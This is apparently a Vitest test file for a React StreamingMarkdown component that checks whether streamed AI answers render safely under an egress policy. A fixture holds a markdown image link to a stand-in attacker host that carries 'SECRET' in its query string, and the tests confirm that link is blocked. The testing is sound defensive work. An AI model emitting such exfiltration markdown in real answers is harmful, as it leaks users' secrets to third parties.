// StreamingMarkdown in React: a growing answer is written into a ref'd element; React never sets markup itself.
// @vitest-environment jsdom
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { act, StrictMode } from 'react';
import { renderToString } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { renderMarkdownInto, type MarkdownRenderReport } from '../../sinks/markdown/render-dom.js';
import { defineEgressPolicy } from '../../src/egress/policy.js';
import { StreamingMarkdown } from '../../src/react/streaming-markdown.js';
import { chunksOf, modelAnswer } from '../../bench/fixtures/model-answer.js';
import { useReactRoot } from './react-root.js';

const policy = defineEgressPolicy({ hosts: ['tickets.example.com'] });
const EXFIL =
  'Done. ![status](https://evil.example/p.png?d=SECRET) See [TK-42](https://tickets.example.com/t/42)';

const mounted = useReactRoot();

function atOnce(text: string): string {
  const box = document.createElement('div');
  renderMarkdownInto(box, text, { policy });
  return box.innerHTML;
}

function output(): Element | null {
  return mounted().host.querySelector('[data-airlock-markdown]');
}

describe('StreamingMarkdown', () => {
  it('renders a growing answer, chunk by chunk, and ends as renderMarkdownInto renders it at once', () => {
    const answer = modelAnswer(4_000) + EXFIL;
    const reports: MarkdownRenderReport[] = [];
    let text = '';
    for (const chunk of chunksOf(answer, 7)) {
      text += chunk;
      act(() => {
        mounted().root.render(
          <StrictMode>
            <StreamingMarkdown text={text} policy={policy} className="answer" />
          </StrictMode>,
        );
      });
      expect(output()?.querySelectorAll('img')).toHaveLength(0);
    }
    act(() => {
      mounted().root.render(
        <StreamingMarkdown
          text={text}
          done
          policy={policy}
          onRender={(r) => reports.push(r)}
          className="answer"
        />,
      );
    });
    return Promise.resolve().then(() => {
      expect(output()?.innerHTML).toBe(atOnce(answer));
      expect(output()?.className).toBe('answer');
      expect(reports.map((report) => report.findings.map((finding) => finding.code))).toEqual([
        ['markdown.url_blocked'],
      ]);
    });
  });

  it('takes the text parts of AI SDK messages: a part still streaming, then done', async () => {
    const parts = [
      { type: 'text', text: 'Looking it up', state: 'streaming' },
      { type: 'text', text: `Looking it up… ${EXFIL}`, state: 'streaming' },
      { type: 'text', text: `Looking it up… ${EXFIL}`, state: 'done' },
    ] as const;
    for (const part of parts) {
      act(() => {
        mounted().root.render(
          <StreamingMarkdown text={part.text} done={part.state !== 'streaming'} policy={policy} />,
        );
      });
    }
    await Promise.resolve();
    expect(output()?.innerHTML).toBe(atOnce(parts[2].text));
    expect(Array.from(output()?.querySelectorAll('a') ?? [], (a) => a.getAttribute('href'))).toEqual([
      'https://tickets.example.com/t/42',
    ]);
  });

  it('starts over when the text does not continue the one shown (a regenerated answer)', () => {
    act(() => {
      mounted().root.render(<StreamingMarkdown text="First **answer** here" policy={policy} />);
    });
    act(() => {
      mounted().root.render(<StreamingMarkdown text="Second" done policy={policy} />);
    });
    expect(output()?.innerHTML).toBe(atOnce('Second'));
  });

  it('renders an empty element on a server, and its source never hands React markup', () => {
    expect(renderToString(<StreamingMarkdown text="**x**" policy={policy} className="a" />)).toBe(
      '<div class="a" data-airlock-markdown=""></div>',
    );
    const source = readFileSync(join(import.meta.dirname, '../../src/react/streaming-markdown.tsx'), 'utf8');
    expect(source).not.toContain('dangerouslySetInnerHTML=');
  });
});
